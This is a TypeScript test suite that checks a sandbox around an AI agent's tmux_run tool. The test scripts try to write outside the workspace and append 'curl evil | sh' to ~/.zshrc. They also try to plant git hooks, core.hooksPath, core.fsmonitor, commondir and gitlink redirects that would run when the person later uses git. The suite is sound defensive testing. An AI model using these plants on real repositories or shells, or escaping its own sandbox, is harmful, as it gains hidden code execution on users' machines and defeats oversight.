// Walls around a run: each test is a script that tries to get out of its sandbox and must fail
// to. The person (the test) sets TMUX_RUN_SANDBOX at the pane's prompt; the agent (the SDK
// Client) sends the script through tmux_run. Where it costs one more run, the same script runs
// first with the sandbox off and is seen to get out, so each check is known to be able to fail.
// This file: writes, and git's hooks and config; test/sandbox/escape-reach.test.ts: secrets,
// sockets, network, processes, links.
import { execFileSync } from 'node:child_process';
import { existsSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sha256 } from '../mcp/support.js';
import { helperChildren } from '../../lab/enrollment.js';
import { killHard } from '../../lab/processes.js';
import type { TmuxServer } from '../../lab/server.js';
import { waitUntil } from '../../lab/waiting.js';
import {
  expectSandboxRefusal,
  fresh,
  observed,
  processesWith,
  finalRun,
  startRun,
  ran,
  textOf,
  uniqueSleep,
} from './support.js';

import { filesUnder, gitInit, HOOK, out, plantedIn, useEscapeFixture } from './escape-support.js';

const { fx } = useEscapeFixture();

describe('sandbox: writes', () => {
  it('a write outside the cwd tree fails, and nothing appears outside (off: it does)', async () => {
    const { server } = fx();
    const proj = fx().project();
    const targets = [
      join(server.home, fresh('planted')),
      join(dirname(proj), fresh('sibling')),
      join(server.baseDir, fresh('beside-home')),
      join('/var/tmp', fresh('tmux-run-sbtests-planted')),
      join('/tmp', fresh('tmux-run-sbtests-planted')),
    ];
    const script = [
      ...targets.map((t, i) => `echo x > '${t}'; echo "w${i} $?"`),
      'mkdir -p build && echo obj > build/inside.o; echo "inside $?"',
    ].join('\n');

    await fx().sandbox('off', proj);
    ran(await fx().run(script));
    for (const t of targets) expect(existsSync(t), `off: ${t} written`).toBe(true);
    for (const t of targets) rmSync(t);

    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(script));
    observed(expect.getState().currentTestName ?? '', d);
    const escaped = targets.filter((t) => existsSync(t));
    for (const t of escaped) rmSync(t, { force: true }); // /tmp and /var/tmp are not the fixture's to sweep
    expect(escaped, 'written outside the cwd tree').toEqual([]);
    expect(d.stdout.data).toMatch(/^w0 [1-9]/m);
    expect(d.stdout.data).toContain('inside 0');
    expect(textOf(join(proj, 'build', 'inside.o'))).toBe('obj\n');
  });

  it('workspace with the cwd at ~ is refused, saying what to do, and nothing runs', async () => {
    const { server } = fx();
    const marker = join(server.home, fresh('ran'));
    const script = `touch '${marker}'`;
    await fx().sandbox('workspace', server.home);
    const e = expectSandboxRefusal(await fx().run(script));
    expect(e.message).toMatch(/read-only/);
    expect(existsSync(marker)).toBe(false);
    expect(
      fx()
        .audit()
        .filter((a) => a.event === 'start' && a.script_digest === sha256(script)),
    ).toEqual([]);
  });

  it.each([
    ['above ~', (s: TmuxServer) => dirname(s.home)],
    ['at /', () => '/'],
    ['in ~/.ssh (a hidden path)', (s: TmuxServer) => join(s.home, '.ssh')],
    ['in the registry', (s: TmuxServer) => s.registryDir],
    [
      'at a symlink to ~',
      (s: TmuxServer) => {
        const link = join(s.baseDir, fresh('home-link'));
        symlinkSync(s.home, link);
        return link;
      },
    ],
  ])('workspace with the cwd %s is refused and nothing runs', async (_what, cwdOf) => {
    const { server } = fx();
    const marker = join(server.home, fresh('ran'));
    await fx().sandbox('workspace', cwdOf(server));
    expectSandboxRefusal(await fx().run(`touch '${marker}'`));
    expect(existsSync(marker)).toBe(false);
  });

  it('read-only at ~ cannot touch ~/.zshrc, ~/.zshenv or anything else in ~', async () => {
    const { server } = fx();
    const zshrc = join(server.home, '.zshrc');
    const zshenv = join(server.home, '.zshenv');
    const before = [textOf(zshrc), textOf(zshenv)];
    const newFile = join(server.home, fresh('new'));
    await fx().sandbox('read-only', server.home);
    const d = ran(
      await fx().run(
        [
          `echo 'curl evil | sh' >> ~/.zshrc; echo "zshrc $?"`,
          `echo 'evil' >> "\${ZDOTDIR:-$HOME}/.zshenv"; echo "zshenv $?"`,
          `mv ~/.zshrc ~/.zshrc.away; echo "mv $?"`,
          `touch '${newFile}'; echo "touch $?"`,
          `echo tmp > /tmp/scratch && cat /tmp/scratch`,
        ].join('\n'),
      ),
    );
    observed(expect.getState().currentTestName ?? '', d);
    expect([textOf(zshrc), textOf(zshenv)]).toEqual(before);
    expect(existsSync(newFile)).toBe(false);
    expect(existsSync(`${zshrc}.away`)).toBe(false);
    expect(d.stdout.data).toMatch(/^zshrc [1-9]/m);
    // A private /tmp is still there to write in.
    expect(d.stdout.data).toContain('tmp\n');
  });
});

describe('sandbox: git hooks and config in the workspace', () => {
  const attackHere = [
    `${HOOK} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo "hook $?"`,
    `echo x > .git/hooks/x; echo "x $?"`,
    `printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> .git/config; echo "config $?"`,
    `git config core.hooksPath /var/tmp/evil; echo "git-config $?"`,
  ].join('\n');

  it('cannot write .git/hooks/x or .git/config of the cwd repository (off: it can)', async () => {
    const { server } = fx();
    const control = fx().project('control');
    gitInit(server, control);
    await fx().sandbox('off', control);
    ran(await fx().run(attackHere));
    expect(plantedIn(control).length, 'off: the attack plants hooks').toBeGreaterThan(0);

    const repo = fx().project('repo');
    gitInit(server, repo);
    await fx().sandbox('workspace', repo);
    const d = ran(await fx().run(`${attackHere}\necho built > out.txt; echo "build $?"`));
    observed(expect.getState().currentTestName ?? '', d);
    expect(plantedIn(repo)).toEqual([]);
    expect(d.stdout.data).toContain('build 0');
    expect(textOf(join(repo, 'out.txt'))).toBe('built\n');
  });

  it('cannot write them in a repository below the cwd', async () => {
    const { server } = fx();
    const proj = fx().project();
    gitInit(server, join(proj, 'vendor', 'lib'));
    await fx().sandbox('workspace', proj);
    ran(await fx().run(`cd vendor/lib\n${attackHere}`));
    expect(plantedIn(proj)).toEqual([]);
  });

  it.each(['.venv/src/editable-pkg', 'node_modules/git-dep', '.cache/checkout'])(
    'cannot write them in a repository under %s either',
    async (rel) => {
      const { server } = fx();
      const proj = fx().project();
      gitInit(server, join(proj, rel));
      await fx().sandbox('workspace', proj);
      const d = ran(await fx().run(`cd '${rel}'\n${attackHere}`));
      observed(expect.getState().currentTestName ?? '', d);
      expect(plantedIn(proj)).toEqual([]);
    },
  );

  // Move the protected path's parent away, recreate the path, write: the person's real tree
  // must hold no new hook and no changed config anywhere afterwards.
  const renames: Array<[string, string, string]> = [
    [
      'the repository below the cwd',
      'vendor/lib',
      `mv vendor/lib vendor/lib.away; echo "mv $?"
mkdir -p vendor/lib/.git/hooks; cp -R vendor/lib.away/.git/. vendor/lib/.git/ 2>/dev/null
${HOOK} > vendor/lib/.git/hooks/pre-commit; echo "hook $?"
${HOOK} > vendor/lib.away/.git/hooks/pre-commit; echo "hook-away $?"`,
    ],
    [
      'the parent of the repository',
      'vendor/lib',
      `mv vendor vendor.away; echo "mv $?"
mkdir -p vendor/lib/.git/hooks; cp -R vendor.away/lib/.git/. vendor/lib/.git/ 2>/dev/null
${HOOK} > vendor/lib/.git/hooks/pre-commit; echo "hook $?"
printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> vendor/lib/.git/config; echo "config $?"`,
    ],
    [
      '.git itself, in the cwd repository',
      '.',
      `mv .git .git.away; echo "mv $?"
mkdir -p .git/hooks; cp -R .git.away/. .git/ 2>/dev/null
${HOOK} > .git/hooks/pre-commit; echo "hook $?"
printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> .git/config; echo "config $?"`,
    ],
    [
      '.git/hooks, in the cwd repository',
      '.',
      `mv .git/hooks .git/hooks.away; echo "mv $?"
mkdir -p .git/hooks; ${HOOK} > .git/hooks/pre-commit; echo "hook $?"
mv .git/config .git/config.away; echo "mv-config $?"
printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' > .git/config; echo "config $?"`,
    ],
  ];

  it.each(renames)('renaming %s away and recreating the path plants nothing', async (_what, repoRel, attack) => {
    const { server } = fx();
    const proj = fx().project();
    gitInit(server, join(proj, repoRel));
    const before = filesUnder(proj);
    await fx().sandbox('workspace', proj);
    const d = ran(await fx().run(attack));
    observed(expect.getState().currentTestName ?? '', d);
    expect(plantedIn(proj), `after:\n${out(d)}`).toEqual([]);
    // Whatever the mv did inside, the person's repository is where it was, as it was.
    expect(filesUnder(proj)).toEqual(before);
  });

  it('the same rename does plant a hook when the sandbox is off (the check can fail)', async () => {
    const { server } = fx();
    const proj = fx().project('control');
    gitInit(server, join(proj, 'vendor', 'lib'));
    await fx().sandbox('off', proj);
    ran(await fx().run((renames[1] as [string, string, string])[2]));
    expect(plantedIn(proj).length).toBeGreaterThan(0);
  });
});

// What matters in the end: when the person later runs git in their repository, unconfined, no
// hook or command the run planted runs. Each way git could be led to run one, tried alone; then
// the person's `git status` and `git commit` in that repository must leave no marker.
describe('sandbox: nothing the run planted runs when the person uses git afterwards', () => {
  /** Runs git as the person (outside any sandbox) in repo, as a commit would. */
  function personCommits(server: TmuxServer, repo: string): void {
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: server.home, GIT_CONFIG_NOSYSTEM: '1' };
    const git = (...args: string[]): void => {
      try {
        execFileSync('git', ['-C', repo, '-c', 'user.name=p', '-c', 'user.email=p@example.org', ...args], {
          env,
          stdio: 'ignore',
        });
      } catch {
        // a broken repository is not a planted hook; the marker says what ran
      }
    };
    git('status');
    git('commit', '-q', '--allow-empty', '-m', 'the person commits');
  }

  const plant = (marker: string): string => `printf '#!/bin/sh\\necho ran > ${marker}\\n'`;
  const vectors: Array<[string, (marker: string) => string]> = [
    ['a pre-commit hook', (m) => `${plant(m)} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`],
    [
      'core.hooksPath to a directory in the workspace',
      (m) =>
        `mkdir -p evil-hooks && ${plant(m)} > evil-hooks/pre-commit && chmod +x evil-hooks/pre-commit; git config core.hooksPath "$PWD/evil-hooks"`,
    ],
    ['core.fsmonitor', (m) => `git config core.fsmonitor 'echo ran > ${m}; false'`],
    [
      '.git/commondir naming a copy of .git with a hook',
      (m) =>
        `cp -R .git evil-common && ${plant(m)} > evil-common/hooks/pre-commit && chmod +x evil-common/hooks/pre-commit; echo "$PWD/evil-common" > .git/commondir`,
    ],
    [
      'a .git file in the repository root replaced by a gitlink',
      (m) =>
        `cp -R .git evil-gitdir && ${plant(m)} > evil-gitdir/hooks/pre-commit && chmod +x evil-gitdir/hooks/pre-commit; rm -rf .git 2>/dev/null; echo "gitdir: $PWD/evil-gitdir" > .git`,
    ],
  ];

  it.each(vectors)('%s', async (_what, attack) => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const marker = join(server.baseDir, fresh('hook-ran'));
    await fx().sandbox('workspace', repo);
    const d = ran(await fx().run(`${attack(marker)}\ntrue`));
    observed(expect.getState().currentTestName ?? '', d);
    personCommits(server, repo);
    expect(existsSync(marker), `a planted command ran when the person used git:\n${out(d)}`).toBe(false);
  });

  it.each(['.git', '.git/hooks'])('with the cwd at %s of the repository, nothing planted runs either', async (rel) => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const marker = join(server.baseDir, fresh('hook-ran'));
    const gitDir = join(repo, '.git');
    await fx().sandbox('workspace', join(repo, rel));
    const s = await fx().run(
      [
        `${plant(marker)} > '${gitDir}/hooks/pre-commit'; chmod +x '${gitDir}/hooks/pre-commit'`,
        `printf '[core]\\n\\tfsmonitor = "echo ran > ${marker}; false"\\n' >> '${gitDir}/config'`,
        `cp -R '${gitDir}' '${repo}/evil' 2>/dev/null; echo '${repo}/evil' > '${gitDir}/commondir'`,
        'true',
      ].join('\n'),
    );
    // Refusing the run holds too; a run that starts must plant nothing that runs.
    if (s.ok === false) expectSandboxRefusal(s);
    else observed(expect.getState().currentTestName ?? '', s.data);
    personCommits(server, repo);
    expect(existsSync(marker)).toBe(false);
  });

  it.each(['.git', '.git/hooks'])(
    'with TMUX_RUN_SANDBOX_WRITE naming another repository’s %s, nothing planted there runs',
    async (rel) => {
      const { server } = fx();
      const other = fx().project('other-repo');
      gitInit(server, other);
      const marker = join(server.baseDir, fresh('hook-ran'));
      const gitDir = join(other, '.git');
      await fx().type(
        `cd '${fx().project()}' && TMUX_RUN_SANDBOX=workspace TMUX_RUN_SANDBOX_WRITE='${join(other, rel)}'`,
      );
      try {
        const s = await fx().run(
          [
            `${plant(marker)} > '${gitDir}/hooks/pre-commit'; chmod +x '${gitDir}/hooks/pre-commit'`,
            `printf '[core]\\n\\tfsmonitor = "echo ran > ${marker}; false"\\n' >> '${gitDir}/config'`,
            'true',
          ].join('\n'),
        );
        if (s.ok === false) expectSandboxRefusal(s);
        else observed(expect.getState().currentTestName ?? '', s.data);
      } finally {
        await fx().type('unset TMUX_RUN_SANDBOX_WRITE');
      }
      personCommits(server, other);
      expect(existsSync(marker)).toBe(false);
    },
  );

  it('a bare repository below the cwd gets no hook that runs when the person pushes to it (off: it does)', async () => {
    const { server } = fx();
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: server.home, GIT_CONFIG_NOSYSTEM: '1' };
    const git = (...args: string[]): void => {
      try {
        execFileSync('git', ['-c', 'user.name=p', '-c', 'user.email=p@example.org', ...args], { env, stdio: 'ignore' });
      } catch {
        // the marker says what ran
      }
    };
    for (const mode of ['off', 'workspace'] as const) {
      const proj = fx().project();
      git('init', '-q', '--bare', join(proj, 'mirror.git'));
      gitInit(server, join(proj, 'work'));
      git('-C', join(proj, 'work'), 'commit', '-q', '--allow-empty', '-m', 'one');
      const marker = join(server.baseDir, fresh('hook-ran'));
      await fx().sandbox(mode, proj);
      const d = ran(
        await fx().run(
          `${plant(marker)} > mirror.git/hooks/pre-receive; chmod +x mirror.git/hooks/pre-receive; echo "hook $?"`,
        ),
      );
      observed(`${expect.getState().currentTestName ?? ''} (${mode})`, d);
      git('-C', join(proj, 'work'), 'push', '-q', join(proj, 'mirror.git'), 'HEAD:refs/heads/main');
      expect(existsSync(marker), `${mode}: the planted pre-receive hook ran at the person's push`).toBe(mode === 'off');
    }
  });

  // A commondir the sandbox cannot lock (it did not exist) is removed after the run: it must
  // not work while the run goes on (the person's prompt runs git status all the time), nor
  // outlive a helper killed before it could remove it.
  const plantCommondir = (marker: string): string =>
    [
      'cp -R .git evil-common',
      `printf '[core]\\n\\tfsmonitor = "echo ran > ${marker}; false"\\n' >> evil-common/config`,
      `${plant(marker)} > evil-common/hooks/pre-commit; chmod +x evil-common/hooks/pre-commit`,
      'echo "$PWD/evil-common" > .git/commondir',
      'touch planted-done',
    ].join('; ');

  it('a commondir planted by a long run does nothing while the run goes on', async () => {
    const { server } = fx();
    const repo = fx().project('repo');
    gitInit(server, repo);
    const marker = join(server.baseDir, fresh('hook-ran'));
    await fx().sandbox('workspace', repo);
    // The run holds on until the person has used git (at most 20 s), whatever the machine's load.
    const hold = 'i=0; while [ ! -e person-done ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done';
    const s = await startRun(fx().mcp.client, fx().listing, `${plantCommondir(marker)}\n${hold}`, { wait_ms: 0 });
    const runId = (s.pending?.run_id ?? s.data?.authorization.run_id) as string;
    await waitUntil(() => existsSync(join(repo, 'planted-done')), 10_000, 'the run to plant');
    personCommits(server, repo);
    writeFileSync(join(repo, 'person-done'), '');
    const end = await finalRun(fx().mcp.client, fx().listing, runId);
    observed(expect.getState().currentTestName ?? '', end.data ?? end.error);
    expect(existsSync(marker), 'the planted fsmonitor or hook ran while the run went on').toBe(false);
  });

  it('a commondir planted by a run whose helper is killed with SIGKILL does nothing afterwards', async () => {
    const { server } = fx();
    const { pane: extra, listing } = await fx().extraPane();
    try {
      const repo = fx().project('repo');
      gitInit(server, repo);
      const marker = join(server.baseDir, fresh('hook-ran'));
      await extra.run(`cd '${repo}' && TMUX_RUN_SANDBOX=workspace`);
      const hold = uniqueSleep();
      await startRun(fx().mcp.client, listing, `${plantCommondir(marker)}\nsleep ${hold}`, { wait_ms: 0 });
      await waitUntil(() => existsSync(join(repo, 'planted-done')), 10_000, 'the run to plant');
      const [helperPid] = helperChildren(await extra.shellPid());
      killHard(helperPid!);
      await waitUntil(() => processesWith(`sleep ${hold}`).length === 0, 10_000, 'the run to end with its helper');
      personCommits(server, repo);
      expect(existsSync(marker), 'the planted fsmonitor or hook ran after the helper was killed').toBe(false);
    } finally {
      await extra.kill();
    }
  });

  it('the same plants do run when the sandbox is off (the check can fail)', async () => {
    const { server } = fx();
    for (const [what, attack] of vectors) {
      const repo = fx().project('control');
      gitInit(server, repo);
      const marker = join(server.baseDir, fresh('hook-ran'));
      await fx().sandbox('off', repo);
      ran(await fx().run(attack(marker)));
      personCommits(server, repo);
      expect(existsSync(marker), what).toBe(true);
    }
  });
});
